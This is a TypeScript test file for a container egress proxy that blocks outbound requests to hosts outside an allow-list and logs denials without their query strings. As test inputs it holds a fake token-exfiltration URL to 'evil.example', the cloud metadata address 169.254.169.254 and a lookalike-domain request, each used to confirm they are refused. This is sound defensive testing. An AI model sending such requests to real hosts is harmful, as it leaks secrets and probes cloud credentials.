/**
 * The container's network edge under limited networking (`EgressEntrypoint`) in workerd, called
 * as the platform calls it for a container's outbound request: allowed hosts are fetched for
 * real (the model server double stands in for an allowed host), denied ones get a 403 naming the
 * host and the policy, and the proxies' own hosts reach their entrypoints bound to the session.
 */
import { createExecutionContext, waitOnExecutionContext } from "cloudflare:test";
import { env, exports } from "cloudflare:workers";
import { afterEach, beforeEach, describe, expect, it, type MockInstance, vi } from "vitest";
import { type EgressPolicy, egressPolicyFor, packageRegistryHosts } from "../../src/egress/policy";
import { EGRESS_HEADER, EgressEntrypoint, type EgressProps } from "../../src/entrypoints/egress";
import { setLogLevel } from "../../src/lib/log";
import { MCP_PROXY_HEADER } from "../../src/mcp/proxy";

const MODEL_ORIGIN = new URL(env.MODEL_SERVER_URL).origin; // http://127.0.0.1:<port>
const SESSION_ID = "sesn_egressedge0000000000001";

const limited = (allowed_hosts: string[], more: { mcp?: boolean; packages?: boolean } = {}) =>
  egressPolicyFor(
    {
      type: "limited",
      allowed_hosts,
      allow_mcp_servers: more.mcp ?? false,
      allow_package_managers: more.packages ?? false,
    },
    ["https://mcp.linear.app/mcp"],
    packageRegistryHosts("127.0.0.1"),
  );

const edge = (policy: EgressPolicy) => exports.EgressEntrypoint({ props: { sessionId: SESSION_ID, policy } });

const consoleSpies: MockInstance[] = [];
beforeEach(() => {
  for (const method of ["log", "warn", "error", "info", "debug"] as const) {
    consoleSpies.push(vi.spyOn(console, method));
  }
});
afterEach(() => {
  for (const spy of consoleSpies.splice(0)) spy.mockRestore();
});

describe("EgressEntrypoint", () => {
  it("refuses a host outside the policy with a 403 naming the host and the policy", async () => {
    const res = await edge(limited(["api.github.com"])).fetch("https://evil.example/steal?token=abc");
    expect(res.status).toBe(403);
    expect(res.headers.get(EGRESS_HEADER)).toBe("denied");
    expect(res.headers.get("content-type")).toContain("text/plain");
    const body = await res.text();
    expect(body).toContain("Blocked by Clawplane egress policy");
    expect(body).toContain("Host: evil.example");
    expect(body).toContain("allowed_hosts: api.github.com");
    expect(body).toContain("allow_mcp_servers: false");
    // Plain HTTP and bare IPs alike (the cloud metadata address is the classic target).
    for (const url of ["http://169.254.169.254/latest/meta-data/", "http://api.github.com.evil.net/"]) {
      const denied = await edge(limited(["api.github.com"])).fetch(url);
      expect(denied.status, url).toBe(403);
      await denied.body?.cancel();
    }
  });

  it("fetches an allowed host for real and streams its answer back", async () => {
    const res = await edge(limited(["127.0.0.1"])).fetch(`${MODEL_ORIGIN}/v1/models`);
    expect(res.status).toBe(200);
    expect(res.headers.get(EGRESS_HEADER)).toBeNull();
    expect((await res.json<any>()).data[0].id).toBe("default");
    // The same host through allow_package_managers (the deployment listed it as a registry).
    const viaRegistry = await edge(limited([], { packages: true })).fetch(`${MODEL_ORIGIN}/v1/models`);
    expect(viaRegistry.status).toBe(200);
    await viaRegistry.body?.cancel();
    const off = await edge(limited([])).fetch(`${MODEL_ORIGIN}/v1/models`);
    expect(off.status).toBe(403);
    await off.body?.cancel();
  });

  it("hands the proxies' own hosts to their entrypoints, bound to the same session", async () => {
    const policy = limited([]);
    const llm = await edge(policy).fetch("http://llm.clawplane.internal/v1/models");
    // The LLM proxy's own answer (OpenAI shape) to a call without a session token.
    expect(llm.status).toBe(401);
    expect((await llm.json<any>()).error.code).toBe("invalid_api_key");
    const mcp = await edge(policy).fetch(
      new Request("http://mcp.clawplane.internal/docs", { method: "POST" }),
    );
    expect(mcp.status).toBe(401);
    expect(mcp.headers.get(MCP_PROXY_HEADER)).toBe("invalid_session_token");
    await mcp.body?.cancel();
  });

  it("logs a denial with the host only, never the path or query", async () => {
    setLogLevel("debug");
    const ctx = Object.assign(createExecutionContext(), {
      props: { sessionId: SESSION_ID, policy: limited([]) } satisfies EgressProps,
    });
    const res = await new EgressEntrypoint(ctx, env).fetch(
      new Request("https://evil.example/path?secret=s3cr3t-value"),
    );
    expect(res.status).toBe(403);
    await res.text();
    await waitOnExecutionContext(ctx);
    setLogLevel("error");
    const lines = consoleSpies.flatMap((s) => s.mock.calls.map((args) => JSON.stringify(args)));
    expect(lines.some((line) => line.includes("egress denied") && line.includes("evil.example"))).toBe(true);
    for (const line of lines) expect(line).not.toContain("s3cr3t-value");
  });

  it("fails closed when its props are missing", async () => {
    const ctx = Object.assign(createExecutionContext(), { props: {} });
    const res = await new EgressEntrypoint(ctx, env).fetch(new Request("https://example.com/"));
    expect(res.status).toBe(503);
    await res.body?.cancel();
  });
});
